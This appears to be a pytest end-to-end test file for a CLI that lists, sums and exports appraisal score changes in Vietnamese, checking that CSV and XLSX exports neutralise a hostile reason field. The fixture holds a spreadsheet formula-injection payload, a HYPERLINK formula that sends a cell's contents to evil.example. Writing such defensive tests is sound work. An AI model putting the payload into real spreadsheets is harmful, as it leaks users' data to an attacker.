"""`parindex oversight` against a real `parindex serve`: an observer lists every
change of a season in Vietnamese, filters the late ones, sums per appraiser, and
exports to .csv and .xlsx files in which a hostile reason stays inert text."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator

import pytest
from openpyxl import load_workbook

from tests.e2e.http_support import World, cli_site, run_cli_as
from tests.oversight_season import HOSTILE, play

cli = run_cli_as
C = "c-ov"


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Iterator[dict]:
    def people(w: World) -> dict:
        return {"observer": w.key("observer", "*")}

    with cli_site(tmp_path_factory.mktemp("oversight-cli"), people, workers=1) as site:
        site["played"] = play(site["world"].env, C)
        yield site


def test_the_observer_lists_every_change_in_vietnamese_and_as_json(site, capsys):
    code, out, err = cli(capsys, site, "observer", "oversight", "list", "--cycle", C)
    assert code == 0, err
    assert "Giám sát kỳ c-ov: 10 thay đổi" in out
    assert "thẩm định điều chỉnh" in out and "điều chỉnh sau công bố" in out
    assert "rút hồ sơ đã nộp" in out and "gia hạn" in out
    assert "quá hạn" in out and "sau công bố" in out and "trừ lớn" in out
    assert "-0.75" in out and "+0.25" in out
    assert '=HYPERLINK("http://evil.example/?"&A1,"Bấm") / "trích dẫn"' in out  # one line

    args = ["oversight", "list", "--cycle", C, "--after-deadline", "--json"]
    code, out, err = cli(capsys, site, "observer", *args)
    assert code == 0, err
    doc = json.loads(out)
    assert doc["total"] == 2 and [c["kind"] for c in doc["changes"]] == [
        "deadline_extended",
        "correction",
    ]
    code, out, err = cli(capsys, site, "observer", "oversight", "list", "--large", "--json")
    assert code == 0, err  # across every cycle the key reaches
    assert [c["leaf"] for c in json.loads(out)["changes"]] == ["1.1.1", "1.1.2"]


def test_the_sums_per_appraiser(site, capsys):
    args = ["oversight", "summary", "--cycle", C, "--by", "actor", "--order", "deducted"]
    code, out, err = cli(capsys, site, "observer", *args)
    assert code == 0, err
    assert "Tổng hợp giám sát theo người thực hiện" in out
    first = out.splitlines()[3]
    assert "(appraiser)" in first and "1.875" in first

    # As of the cycle's first change: the sums of that change alone, and where they stand.
    args = ["oversight", "list", "--cycle", C, "--json", "--limit", "1"]
    code, out, err = cli(capsys, site, "observer", *args)
    first_change = json.loads(out)["changes"][0]
    moment = str(first_change["log_index"])
    args = ["oversight", "summary", "--cycle", C, "--by", "unit", "--as-of", moment]
    code, out, err = cli(capsys, site, "observer", *args)
    assert code == 0, err
    assert out.startswith(f"Như tại vị trí nhật ký {moment} ")
    code, out, err = cli(capsys, site, "observer", *args, "--json")
    doc = json.loads(out)
    assert [(r["key"], r["changes"]) for r in doc["rows"]] == [(first_change["unit"], 1)]


def test_csv_and_xlsx_exports_keep_a_hostile_reason_inert(site, capsys, tmp_path):
    target = tmp_path / "giam-sat.csv"
    code, out, err = cli(
        capsys, site, "observer", "oversight", "list", "--cycle", C, "--csv", str(target)
    )
    assert code == 0, err
    assert "Đã ghi 10 dòng" in out
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 10
    adjusted = next(r for r in rows if r["tieu_chi"] == "1.1.1")
    assert adjusted["ly_do"] == "'" + HOSTILE and adjusted["chenh_lech"] == "-0.75"
    assert adjusted["tru_lon"] == "1" and adjusted["vai_tro"] == "appraiser"

    book = tmp_path / "giam-sat.xlsx"
    code, out, err = cli(
        capsys, site, "observer", "oversight", "list", "--cycle", C, "--xlsx", str(book)
    )
    assert code == 0, err
    sheet = load_workbook(book).active
    header = [c.value for c in sheet[1]]
    reasons = [sheet.cell(r, header.index("ly_do") + 1) for r in range(2, sheet.max_row + 1)]
    hostile = next(c for c in reasons if c.value == HOSTILE)
    assert hostile.data_type == "s" and hostile.quotePrefix
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []

    code, _out, err = cli(
        capsys, site, "observer", "oversight", "list", "--csv", str(tmp_path / "x.txt")
    )
    assert code == 1 and "unsupported_file_type" in err


def test_a_bad_filter_is_refused_with_its_code(site, capsys):
    args = ["oversight", "list", "--cycle", C, "--min-change", "0,5"]
    code, _out, err = cli(capsys, site, "observer", *args)
    assert code == 1 and "invalid_decimal" in err
    code, _out, err = cli(capsys, site, "observer", "oversight", "list", "--cycle", "khong-co")
    assert code == 1 and "cycle_not_found" in err
